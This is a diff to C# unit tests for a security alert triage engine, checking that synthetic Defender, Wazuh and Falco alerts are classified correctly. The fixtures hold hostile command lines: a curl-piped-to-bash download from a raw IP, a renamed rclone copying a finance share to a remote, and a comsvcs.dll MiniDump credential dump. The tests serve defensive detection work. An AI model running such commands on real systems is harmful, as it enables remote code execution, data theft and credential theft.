@@ -20,12 +20,17 @@ public sealed class EndpointExplanationTests
         data = new { win = new { eventdata = new { user, image, commandLine, parentImage, parentCommandLine } } },
     };
 
-    private static object Defender(string title, string account, string folderPath, string commandLine, string parent, string parentCommandLine, string signer = "") => new
+    private static Dictionary<string, object> Defender(string title, string account, string folderPath, string commandLine, string parent, string parentCommandLine, string signer = "", string? original = null)
     {
-        AlertId = "da63000", Timestamp = "2026-11-17T10:31:44Z", Title = title, Severity = "Low", DeviceName = "gx-lt-0042",
-        AccountName = account, FileName = Path.GetFileName(folderPath.Replace('\\', '/')), FolderPath = folderPath, ProcessCommandLine = commandLine,
-        InitiatingProcessFileName = parent, InitiatingProcessCommandLine = parentCommandLine, Signer = signer,
-    };
+        var alert = new Dictionary<string, object>
+        {
+            ["AlertId"] = "da63000", ["Timestamp"] = "2026-11-17T10:31:44Z", ["Title"] = title, ["Severity"] = "Low", ["DeviceName"] = "gx-lt-0042",
+            ["AccountName"] = account, ["FileName"] = Path.GetFileName(folderPath.Replace('\\', '/')), ["FolderPath"] = folderPath, ["ProcessCommandLine"] = commandLine,
+            ["InitiatingProcessFileName"] = parent, ["InitiatingProcessCommandLine"] = parentCommandLine, ["Signer"] = signer,
+        };
+        if (original is not null) alert["OriginalFileName"] = original;
+        return alert;
+    }
 
     [Fact]
     public void Wazuh_sysmon_fields_are_read_natively_and_a_build_agent_compiling_is_closed_but_msbuild_from_a_script_host_is_not()
@@ -120,5 +125,34 @@ public sealed class EndpointExplanationTests
         var stage = Assess(Falco("sh -c curl -s http://45.61.136.12/x.sh | bash", "php-fpm8.2", "Run shell untrusted"));
         Assert.NotEqual(Classification.Benign, stage.Classification);
         Assert.DoesNotContain(stage.Evidence, e => e.Key == "package_manager");
+    }
+
+    [Fact]
+    public void A_dual_use_tool_renamed_is_flagged_but_its_own_64_bit_build_is_not()
+    {
+        var renamed = Defender("Possible data exfiltration tool", "svc-backup", @"C:\ProgramData\Microsoft\Crypto\svchost.exe",
+            @"svchost.exe copy \\gx-fs-02\Finance remote:bk --transfers 16 -q", "cmd.exe", "cmd.exe", original: "rclone.exe");
+        var exfil = Assess(renamed);
+        Assert.NotEqual(Classification.Benign, exfil.Classification);
+        Assert.Contains(exfil.Evidence, e => e.Key == "renamed_binary");
+
+        var procdump = Defender("Process memory dump", "it.admin", @"C:\Tools\Sysinternals\procdump64.exe",
+            @"procdump64.exe -ma -e 1 w3wp.exe C:\Dumps\w3wp_crash.dmp", "cmd.exe", "cmd.exe", "Microsoft Corporation", original: "procdump");
+        var dump = Assess(procdump);
+        Assert.DoesNotContain(dump.Evidence, e => e.Key == "renamed_binary");
+        Assert.Equal(Classification.Benign, dump.Classification);
+    }
+
+    [Fact]
+    public void A_service_account_in_the_maintenance_window_is_explained_but_an_lsass_dump_in_it_is_not_closed()
+    {
+        object Backup(string commandLine) => Wazuh("Sigma: Shadow Copy Creation Using VSSADMIN or WMIC", @"GLOBEX\svc-backup", @"C:\Windows\System32\wbem\WMIC.exe",
+            commandLine, @"C:\Windows\System32\cmd.exe", "cmd.exe", time: "2026-11-21T03:05:12Z");
+        var snapshot = Assess(Backup(@"wmic shadowcopy call create Volume=C:\"));
+        Assert.Equal(Classification.Benign, snapshot.Classification);
+        Assert.Contains(snapshot.Evidence, e => e.Key == "maintenance_window");
+
+        var dump = Assess(Backup(@"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\Users\Public\d.bin full"));
+        Assert.NotEqual(Classification.Benign, dump.Classification);
     }
 }
